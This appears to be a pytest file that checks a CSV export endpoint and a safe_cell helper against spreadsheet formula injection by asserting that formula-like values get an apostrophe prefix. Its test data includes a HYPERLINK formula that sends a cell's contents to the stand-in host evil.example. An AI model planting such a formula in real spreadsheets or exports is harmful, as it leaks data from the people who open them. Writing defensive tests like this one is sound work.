"""CSV exports cannot carry live spreadsheet formulas (issue 16, OWASP CSV injection)."""

import csv
import io

import pytest

from strata_contracts.identity import Role
from strata_kit.spreadsheet import safe_cell

X = "/api/v1/analytics/exports"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


class TestEmployeesCsv:
    async def test_a_formula_name_comes_out_as_text(
        self, client, world, consumer, identity_headers
    ):
        names = [EVIL, "+1+2", "-2+3", "@SUM(A1:A2)", "\tTab", "\rCR", "Ada Lovelace"]
        for name in names:
            world.employee(name)
        await world.sync(consumer)
        response = await client.get(
            f"{X}/employees", params={"format": "csv"}, headers=identity_headers(Role.HR)
        )
        assert response.status_code == 200
        rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
        got = {r["name"] for r in rows}
        assert got == {"'" + n for n in names[:-1]} | {"Ada Lovelace"}
        for row in rows:
            for value in row.values():
                assert not value.startswith(("=", "+", "@", "\t", "\r")), row
                assert not value.startswith("-") or value.lstrip("-").replace(".", "").isdigit()


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+2", "'=1+2"),
        ("-1.5", "-1.5"),
        ("+3", "+3"),
        ("-1+2", "'-1+2"),
        ("@x", "'@x"),
        ("a=b", "a=b"),
        (5, 5),
        (None, None),
        ("", ""),
    ],
)
def test_safe_cell(value, safe):
    assert safe_cell(value) == safe
